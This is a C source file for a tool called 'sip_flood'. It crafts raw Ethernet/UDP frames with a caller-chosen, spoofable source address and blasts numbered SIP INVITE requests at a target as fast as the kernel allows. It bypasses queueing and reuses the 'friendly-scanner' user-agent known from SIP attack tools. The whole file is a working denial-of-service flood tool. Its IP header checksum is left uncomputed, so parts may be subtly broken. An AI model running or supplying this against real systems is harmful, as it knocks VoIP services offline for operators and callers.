/* INVITEs with invented Call-IDs from one address as fast as the kernel takes them: sendmmsg on a packet socket.
 *
 *     sip_flood INTERFACE SOURCE TARGET SECONDS
 *
 * Prints one line: messages sent, seconds. PACKET_QDISC_BYPASS hands frames straight to the device.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { HEAD = 42, FRAME = 1024, BATCH = 64, DIGITS = 12 };

static uint8_t frames[BATCH][FRAME];
static struct iovec parts[BATCH];
static struct mmsghdr messages[BATCH];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void put16(uint8_t *at, uint16_t value) { value = htons(value); memcpy(at, &value, 2); }

/* The twelve digits are overwritten with each message's number. */
static const char *TEXT =
    "INVITE sip:100@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK%012d\r\n"
    "From: <sip:flood@example.net>;tag=%012d\r\nTo: <sip:100@example.net>\r\nCall-ID: %012d@flood\r\n"
    "CSeq: 1 INVITE\r\nContact: <sip:flood@%s>\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n";

int main(int count, char **words) {
    if (count != 5) return 2;
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(words[1])};
    int wire = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;
    if (wire < 0 || bind(wire, (struct sockaddr *)&link, sizeof link)) return perror(words[1]), 1;
    setsockopt(wire, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof yes);
    char text[FRAME];
    int size = snprintf(text, sizeof text, TEXT, words[3], words[2], 0, 0, 0, words[2]);
    int places[3], found = 0;
    for (char *at = text; found < 3 && (at = strstr(at, "000000000000")); at += DIGITS) places[found++] = at - text;
    for (int i = 0; i < BATCH; i++) {
        uint8_t *frame = frames[i];
        memset(frame, 2, 12);
        put16(frame + 12, ETHERTYPE_IP);
        frame[14] = 0x45;
        put16(frame + 16, 28 + size);
        frame[22] = 64;
        frame[23] = 17;
        inet_pton(AF_INET, words[2], frame + 26);
        inet_pton(AF_INET, words[3], frame + 30);
        put16(frame + 34, 5060);
        put16(frame + 36, 5060);
        put16(frame + 38, 8 + size);
        memcpy(frame + HEAD, text, size);
        parts[i] = (struct iovec){frame, HEAD + size};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    unsigned long long sent = 0;
    double began = now(), end = began + atof(words[4]);
    while (now() < end) {
        for (int i = 0; i < BATCH; i++) {
            char digits[DIGITS + 1];
            snprintf(digits, sizeof digits, "%012llu", sent + i);
            for (int place = 0; place < found; place++) memcpy(frames[i] + HEAD + places[place], digits, DIGITS);
        }
        int first = 0;
        while (first < BATCH) {
            int done = sendmmsg(wire, messages + first, BATCH - first, 0);
            if (done < 0 && errno != ENOBUFS && errno != EAGAIN) return perror("sendmmsg"), 1;
            if (done > 0) first += done;
        }
        sent += BATCH;
    }
    printf("%llu %.6f\n", sent, now() - began);
    return 0;
}
